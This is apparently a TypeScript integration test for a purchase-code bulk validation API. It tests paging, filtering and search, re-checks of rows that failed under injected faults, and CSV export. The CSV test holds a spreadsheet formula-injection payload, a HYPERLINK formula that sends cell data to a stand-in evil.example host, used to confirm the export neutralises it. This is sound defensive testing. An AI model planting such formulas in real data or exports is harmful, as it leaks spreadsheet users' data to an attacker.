// A bulk job's results over real HTTP (next start ↔ sandbox, on SQLite and on PostgreSQL): paged, filtered and
// searched on the server, support expired apart from invalid, re-check of the failed rows a retry can pass (only
// those; charged to the hourly allowance; the job's counts follow), and the CSV's formula guard with a code that
// begins with "=".
import { beforeAll, describe, expect, it } from "vitest";

import { FIXED_PURCHASE_CODES } from "@/lib/sandbox";

import { parseCsv } from "@/tests/support/csv";
import type { SignedInClient } from "@/tests/support/gateway";
import { setUpGateway } from "@/tests/support/set-up-gateway";
import { bothServerStores } from "@/tests/support/store-backends";

const VALIDATION_PATH = "/market/api/purchases/validation";
const unknown = (n: number) => `ffffffff-0000-4000-8000-${String(n).padStart(12, "0")}`;
const json = (body: unknown): RequestInit => ({
  method: "POST",
  headers: { "Content-Type": "application/json" },
  body: JSON.stringify(body),
});

/** Polls the job until it has finished (a condition, not a duration). */
async function finished(client: SignedInClient, id: string) {
  for (;;) {
    const res = await client.request(`/api/purchases/bulk/${id}/results?per_page=10`);
    if (res.json.job.status === "done" || res.json.job.status === "cancelled") return res.json;
    await new Promise((resolve) => setTimeout(resolve, 100));
  }
}

describe.each(bothServerStores())("on $name", (store) => {
  const {
    sandbox,
    clients: { support, editor },
  } = setUpGateway({
    signIn: ["support", "editor"],
    env: async () => ({ DATABASE_URL: await store.create(), PURCHASE_BULK_LIMIT_PER_HOUR: "520" }),
  });

  describe("a 500-code job's results", () => {
    let id: string;
    beforeAll(async () => {
      const codes = [
        FIXED_PURCHASE_CODES.active,
        FIXED_PURCHASE_CODES.expired,
        ...Array.from({ length: 498 }, (_, n) => unknown(n)),
      ];
      const created = await support.request("/api/purchases/bulk", json({ codes }));
      expect(created.status, created.text).toBe(202);
      id = created.json.data.id;
      await finished(support, id);
    }, 120_000);

    it("pages by 50 on the server, with the job and the count under each filter", async () => {
      const res = await support.request(`/api/purchases/bulk/${id}/results`);
      expect(res.status).toBe(200);
      expect(res.json.meta).toEqual({ page: 1, per_page: 50, total: 500, last_page: 10 });
      expect(res.json.data).toHaveLength(50);
      expect(res.json.job).toMatchObject({ id, status: "done", total: 500, valid: 2, invalid: 498 });
      expect(res.json.counts).toMatchObject({
        all: 500,
        valid: 2,
        support_expired: 1,
        invalid: 498,
        failed: 0,
        retryable: 0,
      });
      const last = await support.request(`/api/purchases/bulk/${id}/results?page=10`);
      expect(last.json.data.map((row: { index: number }) => row.index)).toEqual(
        Array.from({ length: 50 }, (_, n) => 450 + n),
      );
    });

    it("filters support expired apart from invalid: a valid purchase with its own support state", async () => {
      const res = await support.request(`/api/purchases/bulk/${id}/results?status=support_expired`);
      expect(res.json.data).toEqual([
        expect.objectContaining({ code: FIXED_PURCHASE_CODES.expired, status: "valid", support: "expired" }),
      ]);
      const valid = await support.request(`/api/purchases/bulk/${id}/results?status=valid`);
      expect(valid.json.data.map((row: { support: string }) => row.support).sort()).toEqual(["active", "expired"]);
    });

    it("searches part of a code in any case, with or without hyphens, and pages the matches", async () => {
      const res = await support.request(
        `/api/purchases/bulk/${id}/results?q=${encodeURIComponent("8000-00000000004")}&per_page=10`,
      );
      expect(res.json.meta.total).toBe(10); // unknown(40) … unknown(49)
      expect(res.json.data.every((row: { code: string }) => row.code.includes("8000-00000000004"))).toBe(true);
      const upper = await support.request(`/api/purchases/bulk/${id}/results?q=${CODE_PART.toUpperCase()}`);
      expect(upper.json.data.map((row: { code: string }) => row.code)).toEqual([FIXED_PURCHASE_CODES.expired]);
    });

    it("refuses a bad filter, page or search in words", async () => {
      const res = await support.request(`/api/purchases/bulk/${id}/results?status=maybe&page=0&q=${"x".repeat(101)}`);
      expect(res.status).toBe(400);
      expect(Object.keys(res.json.error.fields).sort()).toEqual(["page", "q", "status"]);
    });

    it("is someone else's job: 404, as one that does not exist", async () => {
      expect((await editor.request(`/api/purchases/bulk/${id}/results`)).status).toBe(404);
    });
  });
  const CODE_PART = "2222-4222";

  describe("re-check of failed rows", () => {
    it("sends back only the failures a retry can pass, charges them, and the job's counts follow", async () => {
      // Every validation answers 503 until cleared: 3 codes fail after their 3 tries.
      await sandbox.injectFault({ method: "POST", path: VALIDATION_PATH, kind: "status", status: 503 });
      const created = await support.request(
        "/api/purchases/bulk",
        json({ codes: [FIXED_PURCHASE_CODES.active, FIXED_PURCHASE_CODES.none, unknown(9999), "\u0430bc"] }),
      );
      const id = created.json.data.id as string;
      const failedJob = await finished(support, id);
      await sandbox.clearFaults();
      // The Cyrillic "аbc" is no purchase code: refused at once, not counted as invalid.
      expect(failedJob.job).toMatchObject({ failed: 3, invalid: 0, refused: 1, valid: 0 });
      expect(failedJob.counts.retryable).toBe(3);

      await sandbox.clearRequests();
      const recheck = await support.request(`/api/purchases/bulk/${id}/recheck`, { method: "POST" });
      expect(recheck.status, recheck.text).toBe(202);
      expect(recheck.json.data).toMatchObject({ id, status: "queued", rechecked: 3, failed: 0, done: 1 });
      const after = await finished(support, id);
      expect(after.job).toMatchObject({ status: "done", valid: 2, invalid: 1, refused: 1, failed: 0 });
      // The refused code was never sent; the three are asked once each.
      expect((await sandbox.requests()).filter((request) => request.path === VALIDATION_PATH)).toHaveLength(3);
      // Nothing left to re-check: invalid codes stay invalid.
      const again = await support.request(`/api/purchases/bulk/${id}/recheck`, { method: "POST" });
      expect(again.status).toBe(409);
      expect(again.json.error).toMatchObject({
        code: "conflict",
        message: expect.stringContaining("nothing to re-check"),
      });
    }, 60_000);
  });

  describe("the CSV", () => {
    it("neutralises a code that begins with '=' (and + - @), and names support expired", async () => {
      const formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")';
      const created = await support.request(
        "/api/purchases/bulk",
        json({ codes: [formula, "+1-555", "@SUM(A1)", FIXED_PURCHASE_CODES.expired] }),
      );
      const id = created.json.data.id as string;
      await finished(support, id);
      const csv = await support.request(`/api/purchases/bulk/${id}.csv`);
      const [header, ...rows] = parseCsv(csv.text.replace(/^\ufeff/, ""));
      // Times in UTC, or with the offset of the zone asked for: the same instants.
      const at = header!.indexOf("checked_at");
      const zoned = parseCsv(
        (await support.request(`/api/purchases/bulk/${id}.csv?time_zone=Asia%2FKolkata`)).text.replace(/^\ufeff/, ""),
      ).slice(1);
      expect(zoned.map((row) => row[at]!.slice(-6))).toEqual(rows.map(() => "+05:30"));
      expect(zoned.map((row) => Date.parse(row[at]!))).toEqual(rows.map((row) => Date.parse(row[at]!)));
      const code = header!.indexOf("code");
      const support_ = header!.indexOf("support");
      expect(rows.map((row) => row[code])).toEqual([
        `'${formula}`,
        "'+1-555",
        "'@SUM(A1)",
        FIXED_PURCHASE_CODES.expired,
      ]);
      expect(rows.map((row) => [row[header!.indexOf("status")], row[support_]])).toEqual([
        ["invalid", ""],
        ["invalid", ""],
        ["invalid", ""],
        ["valid", "expired"],
      ]);
    }, 60_000);
  });
});
